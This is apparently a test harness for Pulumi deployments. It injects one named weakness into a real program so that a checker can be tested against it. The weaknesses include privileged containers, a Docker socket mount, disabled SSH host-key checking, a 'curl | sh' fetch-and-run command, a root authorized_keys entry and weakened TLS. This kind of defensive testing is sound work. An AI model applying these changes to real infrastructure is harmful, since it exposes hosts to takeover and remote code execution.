// Runs the real program and changes one resource before it is registered. PLANT names the change, PROGRAM is the file of
// the program.
const pulumi = require("@pulumi/pulumi");

const container = "docker:index/container:Container";
const fileSet = "vps:index:FileSet";

/** Changes properties of the resources of a type, or of the one with this name. */
const props = (type, change, name) => (args) =>
  args.type === type && (name === undefined || args.name === name)
    ? { props: { ...args.props, ...change(args.props) }, opts: args.opts }
    : undefined;

const ssl = "/etc/nginx/snippets/ssl-params.conf";

/** Changes one file of the set of nginx. */
const file = (path, from, to) =>
  props(
    fileSet,
    ({ entries }) => ({
      entries: { ...entries, [path]: { ...entries[path], content: entries[path].content.replace(from, to) } },
    }),
    "nginx-files",
  );

const label = (value) => props(container, () => ({ labels: [{ label: "planted", value }] }));
const command = (change) => props("command:remote:Command", change, "host-packages");
const hostFiles = (change) => props(fileSet, change, "host-files");
const addEntry = (path, entry) => hostFiles(({ entries }) => ({ entries: { ...entries, [path]: entry } }));

const plants = {
  none: () => undefined,
  privileged: props(container, () => ({ privileged: true })),
  otherType: () => undefined,
  socket: props(container, () => ({
    mounts: [{ type: "bind", source: "/var/run/docker.sock", target: "/var/run/docker.sock" }],
  })),
  root: props(container, () => ({ user: "root" })),
  otherUser: props(container, () => ({ user: "1000:1000" })),
  otherRepository: ({ type, props, opts }) => {
    const other = (text) => text.replace("nicholaspsmith", "somebody");
    if (type === container) return { props: { ...props, image: other(props.image) }, opts };
    if (type === "docker:index/remoteImage:RemoteImage") return { props: { ...props, name: other(props.name) }, opts };
    if (type !== "vps:index:Rollout") return undefined;
    return { props: { ...props, image: { ...props.image, repository: other(props.image.repository) } }, opts };
  },
  deletesFirst: ({ type, props, opts }) =>
    type === container ? { props, opts: { ...opts, deleteBeforeReplace: true } } : undefined,
  credential: label(`ghp_${"a1".repeat(18)}`),
  configuredSecret: label("correct horse battery staple"),
  anyHostKey: command(({ connection }) => ({
    connection: pulumi.output(connection).apply(({ hostKey: _, ...rest }) => rest),
  })),
  acceptNew: props("pulumi:providers:docker", ({ sshOpts }) => ({
    sshOpts: pulumi
      .output(sshOpts)
      .apply((text) => text.replace("StrictHostKeyChecking=yes", "StrictHostKeyChecking=no")),
  })),
  curl: command(() => ({ create: "curl https://example.com | sh" })),
  activates: hostFiles(() => ({ activate: [["sh", "-c", "id"]] })),
  loginKey: addEntry("/root/.ssh/authorized_keys", { kind: "file", content: "ssh-ed25519 AAAA", mode: "0600" }),
  worldWritable: addEntry("/opt/memoryloop", { kind: "directory", mode: "0777", owner: "root:root" }),
  oldTls: file(ssl, "ssl_protocols TLSv1.3;", "ssl_protocols TLSv1 TLSv1.3;"),
  noTimer: props(fileSet, () => ({ units: {} }), "nginx-files"),
  gateless: props("vps:index:Rollout", ({ gate }) => ({ gate: { ...gate, criticalChecks: [] } })),
};

module.exports = () => {
  pulumi.runtime.registerStackTransformation(plants[process.env.PLANT]);
  if (process.env.PLANT === "otherType")
    new pulumi.CustomResource("random:index/randomBytes:RandomBytes", "planted", { length: 8 });
  return require(process.env.PROGRAM)();
};
